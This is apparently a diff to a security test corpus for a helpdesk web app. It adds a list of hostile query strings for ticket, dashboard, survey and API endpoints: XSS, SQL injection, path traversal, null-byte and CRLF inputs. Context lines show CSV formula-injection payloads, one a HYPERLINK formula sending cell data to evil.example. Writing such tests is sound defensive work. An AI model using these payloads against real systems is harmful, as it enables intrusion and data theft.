@@ -142,6 +142,35 @@ TOKENS: dict[str, tuple[str, str]] = {
     "inbound-secret-unicode": ("inbound", "inbound-test-secrét"),
 }
 
+# (role, path with a hostile query string) for the list and report pages.
+QUERIES = [
+    ("agent_x", "/tickets/?after=%00%ff"),
+    ("agent_x", "/tickets/?after=MTcwMDAwMDAwMHw5OTk5OTk5OTk5OTk5OTk5OTk5OTk5fDE="),
+    ("agent_x", "/tickets/?after=-1|x|y&view=%3Cscript%3E"),
+    ("agent_x", "/tickets/?assignee=1e309&status=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
+    ("agent_x", "/tickets/?queue=../../etc&tag=%27%20OR%201%3D1--&tier=x&channel=%00"),
+    ("agent_x", "/tickets/?macro=1%27"),
+    ("agent_x", "/tickets/search/?q=" + "a%20" * 2000),
+    ("agent_x", "/tickets/search/?q=%22unterminated&q=-&q=!!!:*"),
+    ("agent_x", "/tickets/search/?q=%3A*+%26+%7C+%21+%28"),
+    ("mgr_x", "/empathy/dashboard/?start=9999-99-99&end=0000-00-00"),
+    ("mgr_x", "/empathy/dashboard/?start=2020-01-01&end=1900-01-01"),
+    ("mgr_x", "/empathy/dashboard/export.csv?start=%00&end=%3Cscript%3E"),
+    ("mgr_x", "/surveys/report/?start=1-1-1&end=99999-01-01"),
+    ("agent_x", "/empathy/me/?start=%27&end=%22"),
+    ("agent_x", "/api/v1/tickets/?cursor=%00%ff%fe"),
+    ("agent_x", "/api/v1/tickets/?cursor=cD0yMDI0LTAxLTAxJnI9MQ%3D%3D"),
+    ("agent_x", "/api/v1/tickets/?status=%3Cscript%3E&priority=%00&assignee=abc"),
+    ("agent_x", "/api/v1/tickets/?queue=%27%3B--&tag=" + "t" * 5000),
+    ("agent_x", "/api/v1/tickets/?unassigned=maybe&challenging=2&tier=%0d%0a"),
+    ("mgr_x", "/api/v1/surveys/summary/?start=abc&end=2020-13-45"),
+    ("agent_x", "/api/v1/empathy/scores/?cursor=garbage"),
+    ("agent_x", "/api/v1/tickets/abc/"),
+    ("agent_x", "/api/v1/tickets/99999999999999999999999/"),
+    ("agent_x", "/tickets/99999999999999999999999/"),
+    ("cust_a", "/files/99999999999999999999999/"),
+]
+
 CSV = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -158,4 +187,4 @@ TEXT_PAYLOADS = [
     (f"{family}-{i}", text) for family, items in TEXT.items() for i, text in enumerate(items)
 ]
 CASES = [(sink, pid, text) for sink in TEXT_SINKS for pid, text in TEXT_PAYLOADS]
-CORPUS_SIZE = len(CASES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
+CORPUS_SIZE = len(CASES) + len(QUERIES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
